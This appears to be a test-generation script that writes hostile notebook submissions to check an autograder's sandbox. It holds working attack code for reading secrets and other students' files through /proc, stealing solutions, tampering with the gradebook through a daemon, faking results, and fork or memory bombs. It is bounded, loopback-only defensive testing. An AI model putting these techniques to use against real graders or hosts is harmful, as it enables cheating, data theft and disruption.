"""Writes tests/adversarial/submissions/<case>/fx_kl.ipynb: hostile submissions of the fixture assignment.

Run from the repository root: ``.venv/bin/python tests/adversarial/make_cases.py``. The committed notebooks (and the
few extra files shipped beside them) are what tests/test_adversarial.py grades; rerun this script after changing a
builder or the fixture (tests/fixtures/make_fixture.py), and commit the result.

Every case starts from the fixture's SOLUTION (correct answers) or EXERCISE (blank stubs) and replaces answer cells
(matched by nbgrader ``grade_id``), edits nbgrader cells, or inserts cells of its own. Each attack is written so that
it would visibly pay off if it worked: the code returns the right answer only when the attack succeeded (a file or
an environment variable it must not see was readable, a port was reachable, a limit was not enforced), or it tries
to fake/skip the judging with wrong answers. So success always shows up as points.

Fixture (tests/fixtures/make_fixture.py): ``gaussian_kl`` is tested by test_gaussian_kl (3 points: visible + hidden
cases) and test_gaussian_kl_visible (1 point: visible cases); ``kl_bonus`` by test_kl_bonus (1 bonus point, hidden
cases only). The solution scores R = 5 (4 + 1 bonus), the blank exercise E = 0.

Everything is bounded so that a broken sandbox cannot take the machine down: loops stop after minutes, the fork
bomb after FORK_TARGET processes, the memory bomb after MEMORY_TARGET_GB, the file bomb after 1 GB (and deletes its
file), daemons after DAEMON_LIFETIME_S. Network attacks target 127.0.0.1 only (NET_PORTS, opened by the test).
"""

from __future__ import annotations

import copy
import json
import math
import shutil
import textwrap
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
COURSE = ROOT / "tests" / "fixtures" / "course"
SOLUTION = COURSE / "solutions/fx_kl/fx_kl.ipynb"  # the nbgrader source (solutions + hidden tests)
RELEASE = COURSE / "exercises/fx_kl/fx_kl.ipynb"  # what students get
OUT = HERE / "submissions"

# markers the tests look for (in feedback, in `ps`, on the wire)
SECRET_ENV = "MY_GRADER_SECRET"  # the test sets it in the grader's environment
VICTIM_MARKER = "VICTIM-MARKER-7f3a9c"  # in the victim's notebook; must never reach the attacker
DAEMON_MARKER = "ADVERSARIAL-DAEMON-5b1e"  # in the argv of the setsid daemon
FORK_MARKER = "ADVERSARIAL-FORK-90c2"  # in the argv of every fork-bomb process
NET_MARKER = "ADVERSARIAL-NET-d41f"  # what the network attack sends
NET_PORTS = (47613, 47614, 47615)  # the test listens on one of these (127.0.0.1 only)
LEAK_PREFIX = "LEAKED:"  # attacks raise an error starting with this, with what they read
FORK_TARGET = 1000  # processes; the sandbox's process limit must stop the bomb below this
MEMORY_TARGET_GB = 5  # touched; the sandbox's memory limit must stop the bomb below this
SHM_TARGET_GB = 6  # System V shared memory, detached (RLIMIT_AS does not count it); above the cgroup's limit
FILE_TARGET_BYTES = 1 << 30  # one file of 1 GiB; the file-size or /tmp limit must stop it
DAEMON_LIFETIME_S = 150

CORRECT_KL = '''def gaussian_kl(mu, log_var):
    return 0.5 * (mu**2 + log_var.exp() - 1.0 - log_var).sum(-1)
'''
CORRECT_BONUS = '''def kl_bonus(mu, log_var):
    total = torch.zeros(mu.shape[0], dtype=mu.dtype)
    for j in range(mu.shape[1]):
        total = total + 0.5 * (mu[:, j] ** 2 + log_var[:, j].exp() - 1.0 - log_var[:, j])
    return total
'''
WRONG_KL = '''def gaussian_kl(mu, log_var):  # well typed, wrong
    return torch.zeros(mu.shape[0], dtype=mu.dtype)
'''
WRONG_BONUS = '''def kl_bonus(mu, log_var):  # well typed, wrong
    return torch.zeros(mu.shape[0], dtype=mu.dtype)
'''
# Both functions right iff `ok` is true at call time (the attacks gate their answers on what they achieved).
GATED = '''def gaussian_kl(mu, log_var):
    if {ok}:
        return 0.5 * (mu**2 + log_var.exp() - 1.0 - log_var).sum(-1)
    return torch.zeros(mu.shape[0], dtype=mu.dtype)


def kl_bonus(mu, log_var):
    if {ok}:
        return 0.5 * (mu**2 + log_var.exp() - 1.0 - log_var).sum(-1)
    return torch.zeros(mu.shape[0], dtype=mu.dtype)
'''

# Helpers the "escape" attacks share: walk up the process tree through /proc and collect every ancestor's working
# directory, command line and environment. Unsandboxed, the ancestors are the grading worker and the grader itself
# (whose cwd holds submissions/ and the output folder, and whose argv names --course-root and --output).
PROC_HELPERS = '''import glob, os, re


def _ancestors():
    pids, pid = [], os.getpid()
    for _ in range(64):
        try:
            with open(f"/proc/{pid}/status") as handle:
                ppid = int(re.search(r"PPid:\\s+(\\d+)", handle.read()).group(1))
        except (OSError, AttributeError, ValueError):
            break
        if ppid <= 0:
            break
        pids.append(ppid)
        pid = ppid
    return pids


def _proc(pid, what):
    try:
        with open(f"/proc/{pid}/{what}", "rb") as handle:
            return handle.read()
    except OSError:
        return b""


def _places():
    """(cwd, argv) of this process and every ancestor."""
    found = [(os.getcwd(), [])]
    for pid in _ancestors():
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        argv = [a.decode(errors="replace") for a in _proc(pid, "cmdline").split(b"\\0") if a]
        found.append((cwd, argv))
    return found


def _option(argv, name):
    return argv[argv.index(name) + 1] if name in argv and argv.index(name) + 1 < len(argv) else None


def _roots():
    """Folders worth searching: every ancestor's cwd (and two levels up) and every folder named in its argv."""
    roots = []
    for cwd, argv in _places():
        named = [os.path.join(cwd, arg) for arg in argv if os.path.isdir(os.path.join(cwd, arg))]
        for path in [cwd, os.path.dirname(cwd), os.path.dirname(os.path.dirname(cwd)), *named]:
            if path and path not in roots:
                roots.append(path)
    # the magic links of every visible process lead to its cwd (and its root), wherever they are
    seen = set()
    for path in roots:
        try:
            seen.add((os.stat(path).st_dev, os.stat(path).st_ino))
        except OSError:
            pass
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    links = [f"/proc/{pid}/cwd" for pid in pids]
    links += [f"/proc/{pid}/root{cwd}" for cwd, _ in _places() for pid in pids]
    for link in links:
        try:
            key = (os.stat(link).st_dev, os.stat(link).st_ino)
        except OSError:
            continue
        if key not in seen and key != (os.stat("/").st_dev, os.stat("/").st_ino):
            seen.add(key)
            roots.append(link)
    return roots


def _read(path, limit=1 << 22):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit)
    except OSError:
        return b""
'''


def load(path: Path) -> dict:
    return json.loads(path.read_text())


def cell_index(nb: dict, grade_id: str) -> int:
    for index, cell in enumerate(nb["cells"]):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            return index
    raise KeyError(grade_id)


def set_source(nb: dict, grade_id: str, source: str) -> dict:
    nb["cells"][cell_index(nb, grade_id)]["source"] = source
    return nb


_counter = [0]


def student_cell(source: str) -> dict:
    """A code cell the student added (no nbgrader metadata)."""
    _counter[0] += 1
    return {"cell_type": "code", "execution_count": None, "id": f"adv-{_counter[0]:03d}", "metadata": {},
            "outputs": [], "source": source}


def insert_after(nb: dict, grade_id: str, source: str) -> dict:
    nb["cells"].insert(cell_index(nb, grade_id) + 1, student_cell(source))
    return nb


def insert_before(nb: dict, grade_id: str, source: str) -> dict:
    nb["cells"].insert(cell_index(nb, grade_id), student_cell(source))
    return nb


def solution() -> dict:
    """The fixture's solution as a student would hand it in: the release with the right answers filled in (so no
    hidden tests in it)."""
    nb, source = load(RELEASE), load(SOLUTION)
    for grade_id in ("gaussian_kl_answer", "kl_bonus_answer", "derivation"):
        set_source(nb, grade_id, source["cells"][cell_index(source, grade_id)]["source"])
    return nb


def exercise() -> dict:
    return load(RELEASE)


def answers(nb: dict, kl: str, bonus: str) -> dict:
    set_source(nb, "gaussian_kl_answer", kl)
    return set_source(nb, "kl_bonus_answer", bonus)


def hidden_code(code: str) -> str:
    return textwrap.dedent(code).strip() + "\n"


# ----------------------------------------------------------------------------------------------------------
# The cases: name -> (notebook, {extra file name: text}); the docstrings say what is attacked and what must happen.
# ----------------------------------------------------------------------------------------------------------
def case_solution():
    """Control: the solution scores R under the sandbox."""
    return solution(), {}


def case_exercise():
    """Control: the blank exercise scores E."""
    return exercise(), {}


def case_victim():
    """Another student (a correct solution carrying VICTIM_MARKER) whose notebook the attackers look for."""
    nb = solution()
    nb = set_source(nb, "gaussian_kl_answer", f"# {VICTIM_MARKER}\n" + CORRECT_KL)
    return nb, {}


def case_patch_compare():
    """1. Patch the comparison functions (torch.allclose, torch.testing.assert_close, np.allclose, numpy.testing)
    and the grader's own judging helpers in the student's process, with wrong answers. In-process (self-check,
    stock nbgrader) this passes the tests; the grader judges elsewhere: E."""
    code = hidden_code('''
        import numpy as np
        import numpy.testing
        import torch
        import torch.testing
        import autograder.checks as _checks

        torch.allclose = lambda *a, **k: True
        torch.equal = lambda *a, **k: True
        torch.testing.assert_close = lambda *a, **k: None
        np.allclose = lambda *a, **k: True
        np.isclose = lambda *a, **k: True
        np.testing.assert_allclose = lambda *a, **k: None
        np.testing.assert_array_almost_equal = lambda *a, **k: None
        numpy.testing.assert_almost_equal = lambda *a, **k: None
        _checks.expect_close = lambda *a, **k: None
        _checks.expect_tensor = lambda *a, **k: __import__("numpy").zeros(1)
        _checks.judge = lambda name, seed, kind, outcomes: _checks.Verdict(True, f"{name}: passed")
        ''') + "\n\n" + WRONG_KL
    return answers(exercise(), code, WRONG_BONUS), {}


def case_ipython_transformers():
    """2. IPython input and AST transformers that blank or defuse every later cell calling check(): in stock
    nbgrader (and an in-process run) the test cells then run nothing and pass. Wrong answers: E."""
    code = hidden_code('''
        import ast

        _ip = get_ipython()


        def _blank_tests(lines):
            return [] if any("check(" in line or "assert" in line for line in lines) else lines


        class _Defuse(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()

            def visit_Call(self, node):
                name = getattr(node.func, "id", None) or getattr(node.func, "attr", None)
                if name in ("check", "assert_close", "assert_allclose"):
                    return ast.Constant(None)
                return self.generic_visit(node)


        _ip.input_transformers_cleanup.append(_blank_tests)
        _ip.input_transformers_post.append(_blank_tests)
        _ip.ast_transformers.append(_Defuse())
        ''') + "\n\n" + WRONG_KL
    return answers(exercise(), code, WRONG_BONUS), {}


def case_ipython_run_cell():
    """2b. Replace the shell's run_cell so that every later cell (the tests included) is skipped and reported as
    successful. Wrong answers: E."""
    code = hidden_code('''
        class _Quiet:
            error_before_exec = None
            error_in_exec = None
            success = True
            result = None

            def raise_error(self):
                pass


        get_ipython().run_cell = lambda *a, **k: _Quiet()
        get_ipython().run_cell_async = None
        ''') + "\n\n" + WRONG_KL
    return answers(exercise(), code, WRONG_BONUS), {}


def case_traceback_hooks():
    """3. Silence every traceback: showtraceback, set_custom_exc, sys.excepthook. Stock nbgrader decides by the
    error output of a test cell, so failing tests pass there. Functions that raise: E."""
    code = hidden_code('''
        import sys

        _ip = get_ipython()
        _ip.showtraceback = lambda *a, **k: None
        _ip.showsyntaxerror = lambda *a, **k: None
        _ip.set_custom_exc((BaseException,), lambda self, etype, value, tb, tb_offset=None: None)
        sys.excepthook = lambda *a: None
        sys.unraisablehook = lambda *a: None


        def gaussian_kl(mu, log_var):
            raise ValueError("not done")
        ''')
    bonus = 'def kl_bonus(mu, log_var):\n    raise ValueError("not done")\n'
    return answers(exercise(), code, bonus), {}


def case_fake_results():
    """4. Print fake "passed" lines, write fake results files where a grader might look (cwd, parents, /tmp), and
    forge protocol lines ("every cell ok", then "done") into every pipe the process inherited. Wrong answers: E."""
    code = hidden_code('''
        import json, os, stat

        print("ok: gaussian_kl (visible tests): passed 2 case(s).")
        print("PASS  test_gaussian_kl (3 points)\\nPASS  test_gaussian_kl_visible (1 points)\\nPASS  test_kl_bonus")
        print("1 of 1 visible test cells passed. Score: 5 / 4")
        _fake_csv = "student_id,assignment,score,max_score,status\\nfake_results,fx_kl,5,4,ok\\n"
        for _name in ["grades.csv", "results.json", "../grades.csv", "../results.json", "/tmp/grades.csv",
                      "/tmp/results.json"]:
            try:
                with open(_name, "w") as _handle:
                    _handle.write(_fake_csv if _name.endswith(".csv") else json.dumps({"score": 5, "passed": True}))
            except OSError:
                pass
        _forged = [{"position": _p, "grade_id": None, "status": "ok", "error": None, "records": [], "stdout": "",
                    "stdout_total": 0, "stderr": "", "stderr_total": 0, "seconds": 0.0} for _p in range(40)]
        _payload = "".join(json.dumps(_m) + "\\n" for _m in _forged).encode() + b'{"done": true}\\n'
        for _fd in range(3, 64):
            try:
                if stat.S_ISFIFO(os.fstat(_fd).st_mode) or stat.S_ISSOCK(os.fstat(_fd).st_mode):
                    os.set_blocking(_fd, False)  # never hang on a pipe nobody reads
                    os.write(_fd, _payload)
            except OSError:
                pass
        ''') + "\n\n" + WRONG_KL
    return answers(exercise(), code, WRONG_BONUS), {}


def case_always_equal():
    """5a. gaussian_kl returns an object equal to everything (and close to everything): E for the two tests that
    call it; kl_bonus is right, so its bonus point stays."""
    code = hidden_code('''
        class AlwaysEqual:
            shape = property(lambda self: self)
            dtype = property(lambda self: self)

            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            def __bool__(self):
                return True

            def __len__(self):
                return 1

            def __getattr__(self, name):
                return lambda *a, **k: self

            def __array__(self, *a, **k):
                raise TypeError("no")

            __le__ = __ge__ = __lt__ = __gt__ = __eq__
            __sub__ = __rsub__ = __abs__ = __add__ = __radd__ = __mul__ = __rmul__ = lambda self, *a: self


        def gaussian_kl(mu, log_var):
            return AlwaysEqual()
        ''')
    return answers(exercise(), code, CORRECT_BONUS), {}


def case_tensor_subclass():
    """5b. kl_bonus returns a torch.Tensor subclass (wrong numbers) that claims equality/closeness with anything:
    E for test_kl_bonus; gaussian_kl is right, so its 4 points stay."""
    code = hidden_code('''
        import torch


        class Liar(torch.Tensor):
            def __eq__(self, other):
                return True

            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None):
                if func in (torch.allclose, torch.equal, torch.isclose, torch.Tensor.__eq__, torch.eq):
                    return True
                return super().__torch_function__(func, types, args, kwargs or {})


        def kl_bonus(mu, log_var):
            return torch.zeros(mu.shape[0], dtype=mu.dtype).as_subclass(Liar)
        ''')
    return answers(exercise(), CORRECT_KL, code), {}


SABOTAGE = '''# Shipped beside the notebook. If the grader ever imports it, grading breaks loudly (and, importing from
# the student's folder being the attack, a fake module here could fake anything).
import os

os._exit(86)
'''


def case_shipped_modules():
    """6. torch.py, numpy.py, sitecustomize.py, usercustomize.py, autograder.py and vaelib.py shipped in the
    student's folder (stock nbgrader runs the kernel there, so `import torch` would take them). Each kills its
    process if imported. The notebook is correct: R."""
    files = {name: SABOTAGE for name in ("torch.py", "numpy.py", "sitecustomize.py", "usercustomize.py",
                                         "autograder.py", "vaelib.py", "IPython.py", "scipy.py")}
    return solution(), files


def _strip_grade(cell, points=None):
    nbg = cell["metadata"]["nbgrader"]
    nbg["grade"] = False
    nbg["locked"] = False
    if points is not None:
        nbg["points"] = points


def case_edited_tests_wrong():
    """7a. Wrong answers; test cells edited to `pass`, points raised to 100, grade flags cleared, the visible test
    deleted, the bonus test duplicated, a made-up test cell with 50 points added. Tests come from the source: E."""
    nb = answers(exercise(), WRONG_KL, WRONG_BONUS)
    test = nb["cells"][cell_index(nb, "test_gaussian_kl")]
    test["source"] = "pass\n"
    test["metadata"]["nbgrader"]["points"] = 100
    bonus = nb["cells"][cell_index(nb, "test_kl_bonus")]
    bonus["source"] = "pass\n"
    bonus["metadata"]["nbgrader"]["points"] = 100
    del nb["cells"][cell_index(nb, "test_gaussian_kl_visible")]
    duplicate = copy.deepcopy(bonus)
    duplicate["id"] = "adv-dup"
    nb["cells"].append(duplicate)
    made_up = copy.deepcopy(test)
    made_up["id"] = "adv-made-up"
    made_up["metadata"]["nbgrader"]["grade_id"] = "test_extra_credit"
    made_up["metadata"]["nbgrader"]["points"] = 50
    nb["cells"].append(made_up)
    _strip_grade(nb["cells"][cell_index(nb, "test_gaussian_kl")], points=100)
    return nb, {}


def case_edited_tests_right():
    """7b. Right answers; test cells replaced by failing code, points set to 0, grade flags cleared, the visible
    test deleted, the main test duplicated (the duplicate fails), the imports cell edited. Tests come from the
    source: R."""
    nb = solution()
    for grade_id in ("test_gaussian_kl", "test_kl_bonus"):
        cell = nb["cells"][cell_index(nb, grade_id)]
        cell["source"] = "raise AssertionError('sabotaged test')\n"
        _strip_grade(cell, points=0)
    duplicate = copy.deepcopy(nb["cells"][cell_index(nb, "test_gaussian_kl")])
    duplicate["id"] = "adv-dup"
    del nb["cells"][cell_index(nb, "test_gaussian_kl_visible")]
    nb["cells"].append(duplicate)
    set_source(nb, "imports", "import torch\nimport sys\n")
    return nb, {}


def _leak_cell(variable: str) -> str:
    """A cell at the end that shows what was read, as an error message (student errors reach the feedback)."""
    return f"if {variable}:\n    raise RuntimeError({LEAK_PREFIX!r} + repr({variable})[:400])\n"


def case_read_solutions():
    """8a. Find and read the instructor's source notebook (the real course's solutions/, or the fixture course found
    through the grader's --course-root and cwd), exec its solution cells. Right answers only if that worked: E."""
    code = PROC_HELPERS + "\n\n" + hidden_code('''
        import json

        _candidates = []
        for _prefix in [""] + [f"/proc/{p}/root" for p in os.listdir("/proc") if p.isdigit()]:
            _candidates += [_prefix + "/work/main/solutions/ps3_elbo/ps3_elbo.ipynb",
                            _prefix + "/work/main/tests/fixtures/course/solutions/fx_kl/fx_kl.ipynb"]
        for _cwd, _argv in _places():
            _root = _option(_argv, "--course-root")
            if _root:
                _candidates += glob.glob(os.path.join(_cwd, _root, "solutions", "*", "*.ipynb"))
        for _root in _roots():
            _candidates += glob.glob(os.path.join(_root, "solutions", "*", "*.ipynb"))
            _candidates += glob.glob(os.path.join(_root, "*", "solutions", "*", "*.ipynb"))
            _candidates += glob.glob(os.path.join(_root, "source", "*", "*.ipynb"))
        _stolen = ""
        for _path in _candidates:
            _text = _read(_path)
            if b"BEGIN SOLUTION" not in _text:
                continue
            try:
                for _cell in json.loads(_text)["cells"]:
                    _src = "".join(_cell["source"])
                    if _cell["cell_type"] == "code" and "BEGIN SOLUTION" in _src and ("def gaussian_kl" in _src
                                                                                     or "def kl_bonus" in _src):
                        exec(_src, globals())
                        _stolen += _src
            except Exception:
                pass
        if "def kl_bonus" not in _stolen and "def gaussian_kl" in _stolen:  # the real course has no kl_bonus
            kl_bonus = gaussian_kl
        if not _stolen:
        ''') + textwrap.indent(WRONG_KL + "\n\n" + WRONG_BONUS, "    ")
    nb = exercise()
    set_source(nb, "gaussian_kl_answer", code)
    set_source(nb, "kl_bonus_answer", "# kl_bonus comes from the stolen solution (or the fallback above)\n")
    nb["cells"].append(student_cell(_leak_cell("_stolen")))
    return nb, {}


def case_read_test_split():
    """8e. Reach the digits' test split, on which the grader evaluates the VAEs students train (training on it would
    pass the held-out check): scikit-learn's bundled file, and vaelib.data.digits with 20 other seeds. Inside the
    sandbox only the 1,438 training images exist; right answers only if more than 1,500 distinct images were
    reachable: E."""
    code = CORRECT_KL + "\n\n" + CORRECT_BONUS + "\n\n" + hidden_code('''
        _rows = set()
        try:
            from sklearn.datasets import load_digits

            _rows |= {_row.tobytes() for _row in load_digits().data}
        except Exception:
            pass
        try:
            from vaelib.data import digits

            for _seed in range(20):
                for _part in digits(seed=_seed)[0::2]:
                    _rows |= {_row.tobytes() for _row in (_part.numpy() * 16).astype("float64")}
        except Exception:
            pass
        _stolen = len(_rows) if len(_rows) > 1500 else 0
        if not _stolen:
        ''') + textwrap.indent(WRONG_KL + "\n\n" + WRONG_BONUS, "    ")
    nb = exercise()
    set_source(nb, "gaussian_kl_answer", code)
    set_source(nb, "kl_bonus_answer", "# kl_bonus is defined above\n")
    nb["cells"].append(student_cell(_leak_cell("_stolen")))
    return nb, {}


def case_read_gradebook():
    """8b. Find the output folder's gradebook.db (through the grader's --output and cwd) and read it (and try to
    write it). Right answers only if it could be read: E."""
    code = PROC_HELPERS + "\n\n" + hidden_code('''
        _dbs = []
        for _cwd, _argv in _places():
            _out = _option(_argv, "--output")
            if _out:
                _dbs.append(os.path.join(_cwd, _out, "gradebook.db"))
        for _root in _roots():
            _dbs += glob.glob(os.path.join(_root, "*", "gradebook.db")) + glob.glob(os.path.join(_root, "gradebook.db"))
        _gradebook = b""
        for _db in _dbs:
            _data = _read(_db)
            if _data.startswith(b"SQLite format 3"):
                _gradebook = _data[:300]
                try:
                    with open(_db, "ab") as _handle:  # and spoil it, if it is writable
                        _handle.write(b"")
                except OSError:
                    pass
                break
        ''') + "\n\n" + GATED.format(ok="_gradebook")
    nb = answers(exercise(), code, "# defined above\n")
    nb["cells"].append(student_cell(_leak_cell("_gradebook")))
    return nb, {}


def case_read_other_student():
    """8c. Find another student's notebook (the victim's, recognised by VICTIM_MARKER) through the grader's cwd and
    argv or the sibling scratch folders, and run its answer. Right answers only if that worked: E."""
    code = PROC_HELPERS + "\n\n" + hidden_code(f'''
        import json

        _notebooks = []
        for _root in _roots():
            for _depth in ("*", "*/*", "*/*/*"):
                _notebooks += glob.glob(os.path.join(_root, _depth, "*.ipynb"))
        _copied = ""
        for _path in _notebooks:
            _text = _read(_path)
            if b"{VICTIM_MARKER}" not in _text:
                continue
            for _cell in json.loads(_text)["cells"]:
                _src = "".join(_cell["source"])
                if "{VICTIM_MARKER}" in _src:
                    exec(_src, globals())
                    _copied = _src
                    kl_bonus = gaussian_kl
            break
        if not _copied:
        ''') + textwrap.indent(WRONG_KL + "\n\n" + WRONG_BONUS, "    ")
    nb = answers(exercise(), code, "# defined above\n")
    nb["cells"].append(student_cell(_leak_cell("_copied")))
    return nb, {}


def case_read_env_secret():
    """8d. Look for the grader's secret (MY_GRADER_SECRET, set in the grader's environment by the test) in this
    process's environment and in every /proc/*/environ. Right answers only if found: E."""
    code = PROC_HELPERS + "\n\n" + hidden_code(f'''
        _secret = os.environ.get("{SECRET_ENV}", "")
        for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            for _entry in _proc(_pid, "environ").split(b"\\0"):
                if _entry.startswith(b"{SECRET_ENV}="):
                    _secret = _secret or _entry.split(b"=", 1)[1].decode(errors="replace")
        print(_secret)
        ''') + "\n\n" + GATED.format(ok="_secret")
    nb = answers(exercise(), code, "# defined above\n")
    nb["cells"].append(student_cell(_leak_cell("_secret")))
    return nb, {}


DAEMON = PROC_HELPERS + f'''
import sqlite3, sys, time

# Bounded: gives up after {DAEMON_LIFETIME_S} s. Targets are found now, while the grader is still an ancestor.
_targets = set()
for _cwd, _argv in _places():
    _out = _option(_argv, "--output")
    if _out:
        _targets.add(os.path.join(_cwd, _out))
for _root in _roots():
    _targets.update(os.path.dirname(p) for p in glob.glob(os.path.join(_root, "*", "gradebook.db")))
_deadline = time.time() + {DAEMON_LIFETIME_S}
while time.time() < _deadline:
    for _target in _targets:
        try:
            with sqlite3.connect(os.path.join(_target, "gradebook.db"), timeout=1) as _db:
                _db.execute("UPDATE grade SET manual_score = 999")
        except Exception:
            pass
        try:
            if os.path.exists(os.path.join(_target, "grades.csv")):
                with open(os.path.join(_target, "grades.csv"), "a") as _handle:
                    _handle.write("daemon_writer,fx_kl,999,4,ok,{DAEMON_MARKER},0,0,no,0,fx_kl.ipynb,1\\n")
        except Exception:
            pass
    time.sleep(0.5)
'''


def case_daemon_writer():
    """9. Start a setsid daemon (argv carries DAEMON_MARKER) and a background thread that keep rewriting the
    gradebook and grades.csv (found through the grader's --output) after the notebook ends. Wrong answers: E, the
    outputs unchanged after grading, and no such process left."""
    code = hidden_code(f'''
        import subprocess, sys, threading

        _daemon = {DAEMON!r}
        subprocess.Popen([sys.executable, "-c", _daemon, "{DAEMON_MARKER}"], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        threading.Thread(target=exec, args=(_daemon, {{}}), daemon=True).start()
        ''') + "\n\n" + WRONG_KL
    return answers(exercise(), code, WRONG_BONUS), {}


def case_network():
    """10. Connect to 127.0.0.1 on the ports the test listens on and send NET_MARKER. Right answers only if a
    connection was made: E, and nothing arrives."""
    code = hidden_code(f'''
        import socket

        _connected = False
        for _port in {NET_PORTS!r}:
            try:
                with socket.create_connection(("127.0.0.1", _port), timeout=2) as _sock:
                    _sock.sendall(b"{NET_MARKER}")
                    _connected = True
            except OSError:
                pass
        ''') + "\n\n" + GATED.format(ok="_connected")
    return answers(exercise(), code, "# defined above\n"), {}


def case_infinite_loop():
    """11a. gaussian_kl never returns (bounded at 10 minutes); kl_bonus is right. Only the two tests calling
    gaussian_kl are zeroed (cell time limit), the bonus point stays: 1."""
    code = hidden_code('''
        import time


        def gaussian_kl(mu, log_var):
            end = time.monotonic() + 600
            while time.monotonic() < end:
                pass
            return mu.sum(-1)
        ''')
    return answers(exercise(), code, CORRECT_BONUS), {}


def case_budget_evader():
    """11b. Right answers; after the gaussian_kl tests a cell disarms every cell timer it can reach (ignores
    SIGALRM, SIGVTALRM and SIGPROF, clears the three interval timers, swallows every exception) and spins (bounded
    at 10 minutes). The host stops it once its CPU time passes the cell limit plus a grace period: the 4 points
    earned before it stay and the bonus test runs in a fresh process."""
    nb = solution()
    insert_after(nb, "test_gaussian_kl_visible", hidden_code('''
        import signal, time

        def _disarm():
            for _number, _timer in ((signal.SIGALRM, signal.ITIMER_REAL), (signal.SIGVTALRM, signal.ITIMER_VIRTUAL),
                                    (signal.SIGPROF, signal.ITIMER_PROF)):
                signal.signal(_number, signal.SIG_IGN)
                signal.setitimer(_timer, 0)

        _disarm()
        _end = time.monotonic() + 600
        while time.monotonic() < _end:
            try:
                _disarm()
                while time.monotonic() < _end:
                    pass
            except BaseException:
                pass
        '''))
    return nb, {}


def _crash(body: str):
    code = "def gaussian_kl(mu, log_var):\n" + textwrap.indent(body, "    ") + "\n"
    return answers(exercise(), code, CORRECT_BONUS), {}


def case_crash_exit():
    """12a. gaussian_kl calls os._exit(7). The crash is recorded; the remaining cells run in a fresh process, so the
    bonus point stays: 1."""
    return _crash("import os\nos._exit(7)")


def case_crash_sigkill():
    """12b. gaussian_kl sends SIGKILL to its own process: as 12a."""
    return _crash("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")


def case_crash_segfault():
    """12c. gaussian_kl dereferences a NULL pointer through ctypes (a segfault): as 12a."""
    return _crash("import ctypes\nctypes.string_at(0)")


def case_crash_kill_worker():
    """12d. gaussian_kl tries to kill the processes that run it: its parent, every process it may signal
    (kill(-1)), and the grading sandbox's zygote and monitor found through /proc. Only when the zygote's argv is
    visible (inside the grader), so a self-check never kills the student's own shell. Nothing outside the
    submission's own PID namespace can be signalled: the function returns None and fails its tests, the bonus point
    stays (1), and the submissions graded after it are unaffected."""
    return _crash(hidden_code('''
        import os
        import signal

        targets = [os.getppid()]
        for name in os.listdir("/proc"):
            if name.isdigit():
                try:
                    with open(f"/proc/{name}/cmdline", "rb") as handle:
                        if b"autograder.student.zygote" in handle.read():
                            targets.append(int(name))
                except OSError:
                    pass
        if len(targets) > 1:
            for pid in targets:
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
        return None
        '''))


def case_memory_bomb():
    """13a. The answer cell tries to fill MEMORY_TARGET_GB GB (touched, 256 MB at a time). gaussian_kl is right only
    if all of it was allocated, so a limit that stops it shows as 0 for the gaussian_kl tests; kl_bonus is right
    (the process, or its fresh replacement, goes on): 1."""
    code = hidden_code(f'''
        import numpy as np

        _chunks, _allocated_gb = [], 0.0
        try:
            while _allocated_gb < {MEMORY_TARGET_GB}:
                _chunks.append(np.ones(1 << 25))  # 256 MB, written
                _allocated_gb += 0.25
        except MemoryError:
            pass
        del _chunks
        _bomb_worked = _allocated_gb >= {MEMORY_TARGET_GB}
        ''') + "\n\n" + GATED.format(ok="_bomb_worked").split("\n\n\ndef kl_bonus")[0] + "\n"
    return answers(exercise(), code, CORRECT_BONUS), {}


def case_answer_key():
    """7.1 The answer key: look for the judging code and the reference implementations anywhere the sandbox lets
    the student read (autograder.judging, vaelib.probability, any file defining register_judge or a statistics
    function) and, if found, answer with the grader's own reference. Only the student side is mounted: E."""
    code = hidden_code('''
        import importlib, os

        _key = None
        for _module in ("autograder.judging", "autograder.judging.ps3_elbo", "vaelib.probability",
                        "vaelib.estimators", "autograder.judge_server"):
            try:
                _key = importlib.import_module(_module)
                break
            except Exception:
                pass
        if _key is None:
            for _root, _dirs, _files in os.walk("/"):
                _dirs[:] = [d for d in _dirs if not os.path.join(_root, d).startswith(("/proc", "/sys"))]
                for _name in _files:
                    if _name.endswith(".py"):
                        try:
                            with open(os.path.join(_root, _name), errors="replace") as _handle:
                                if "register_judge(" in _handle.read():
                                    _key = os.path.join(_root, _name)
                        except OSError:
                            pass
        _found_key = _key is not None
        ''') + "\n\n" + GATED.format(ok="_found_key")
    return answers(exercise(), code, ""), {}


def case_forged_records():
    """7.5 Judge memory: the student replaces the recorder so that check() hands the grader forged records: an
    array whose data is (1,000,000 x 1) float64 but claims shape (2,), one claiming 10^9 elements, a pickled object
    array, values nested 50 deep, broken base64. The grader validates every record before decoding (the real shape
    is read from the .npy header first): the checks fail with a reason, the grader's memory stays small, E."""
    code = hidden_code('''
        import base64, io, json
        import numpy as np
        from autograder.student import probes as _probes

        def _npy(array, allow_pickle=False):
            _buffer = io.BytesIO()
            np.save(_buffer, array, allow_pickle=allow_pickle)
            return base64.b64encode(_buffer.getvalue()).decode()

        _big = _npy(np.zeros((1_000_000, 1)))
        _nested = {"kind": "tensor", "type_name": "torch.Tensor", "dtype": "float32", "shape": [2],
                   "npy": _npy(np.zeros(2, np.float32))}
        for _ in range(50):
            _nested = {"kind": "tuple", "type_name": "tuple", "items": [_nested]}
        _forgeries = [
            {"kind": "tensor", "type_name": "torch.Tensor", "dtype": "float64", "shape": [2], "npy": _big},
            {"kind": "tensor", "type_name": "torch.Tensor", "dtype": "float32", "shape": [1000000000], "npy": ""},
            {"kind": "ndarray", "type_name": "numpy.ndarray", "dtype": "float64", "shape": [2],
             "npy": _npy(np.array([None, 1.0], dtype=object), allow_pickle=True)},
